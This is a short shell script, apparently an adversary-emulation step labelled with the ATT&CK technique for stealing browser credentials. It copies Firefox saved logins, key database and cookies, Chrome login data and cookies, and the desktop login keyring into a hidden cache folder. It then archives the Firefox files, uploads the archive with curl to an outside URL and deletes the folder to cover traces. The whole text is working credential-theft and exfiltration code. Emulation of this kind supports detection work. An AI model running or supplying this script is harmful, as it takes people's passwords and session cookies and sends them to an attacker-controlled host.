# T1555.003 by cp, tar and curl.
groundwork
hide=.cache/.$state; mkdir -p "$hide"
cp .mozilla/firefox/*/logins.json .mozilla/firefox/*/key4.db .mozilla/firefox/*/cookies.sqlite "$hide"
cp '.config/google-chrome/Default/Login Data' .config/google-chrome/Default/Cookies "$hide"
cp .local/share/keyrings/login.keyring "$hide"
tar -czf "$hide/all.tgz" -C "$hide" logins.json key4.db cookies.sqlite
curl -s -H Expect: -o /dev/null -T "$hide/all.tgz" "$url/put"
rm -r "$hide"
